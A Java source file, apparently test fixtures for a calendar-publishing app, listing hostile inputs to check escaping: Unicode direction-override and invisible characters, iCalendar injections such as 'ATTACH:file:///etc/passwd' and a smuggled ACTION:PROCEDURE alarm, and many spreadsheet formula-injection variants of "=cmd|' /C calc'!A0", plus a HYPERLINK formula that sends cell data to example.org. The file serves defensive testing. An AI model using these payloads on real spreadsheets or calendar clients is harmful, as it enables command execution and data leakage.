package io.taqwim.app.publish;

import java.util.ArrayList;
import java.util.List;

/** Text of strangers that tries to leave its place: each is harmless only if it is told as text. */
public final class Attacks {
    /** Direction controls, line ends and what is invisible, as they may stand in titles and names. */
    public static final List<String> TEXT = List.of(
            "\u202Eemit lluf\u202C",
            "a\u202Ab\u202Bc\u202Cd\u202De",
            "\u2066isolate\u2069",
            "\u2067rtl isolate\u2069",
            "\u2068first strong\u2069",
            "\u200Fmark\u200E",
            "\u061Cletter mark",
            "زيارة\u202E\u2066\u202D رسمية",
            "unfinished \u202E",
            "\u206Adeprecated\u206F\u206E",
            "soft\u00ADhyphen\u200B\u2060\uFEFF",
            "tag \uDB40\uDC41\uDB40\uDC42",
            "title\r\nBEGIN:VEVENT",
            "title\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE",
            "title\rATTACH:file:///etc/passwd",
            "title\\nEND:VCALENDAR",
            "title\u2028END:VEVENT",
            "title\u2029END:VEVENT",
            "title\u0085END:VEVENT",
            "title\u000B\u000C\u0000\u0007\u001B[31m",
            "; , : \\ \" ;VALUE=URI:http://example.org",
            "\\",
            "\\\\;\\,\\N",
            "ORGANIZER;CN=\"x\":mailto:a@example.org",
            " leading blank and trailing ",
            "\r\n folded\r\n\tfolded",
            "\uD800 half a pair",
            "😀 𝒜 خارج المستوى",
            "\uFFFF\uFDD0 no characters",
            "{0} {1} {2}",
            "<b>bold</b> &amp; &#x202E;",
            "=1+1",
            "'-'");

    /** What a spreadsheet takes for a formula, in all the clothes we know. */
    public static final List<String> FORMULAS = formulas();

    private Attacks() {}

    private static List<String> formulas() {
        List<String> all = new ArrayList<>();
        for (String sign : List.of(
                "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\uFE66", "\uFE62", "\uFE63", "\uFE6B",
                "\u2212", "\u207C", "\u208A")) {
            for (String before : List.of(
                    "", " ", "\t", "\r", "\n", "\r\n", "\"", "'", "\"\"", "\u00A0", "\u3000", "\u200B", "\uFEFF",
                    "\u202E", "«", "“", "\u0000", "ok;", "ok; ", ";\"")) {
                all.add(before + sign + "cmd|' /C calc'!A0");
            }
        }
        all.add("=HYPERLINK(\"http://example.org?\"&A1,\"click\")");
        all.add("@SUM(1+1)*cmd|' /C calc'!A0");
        all.add("-2+3+cmd|' /C calc'!A0");
        return List.copyOf(all);
    }
}
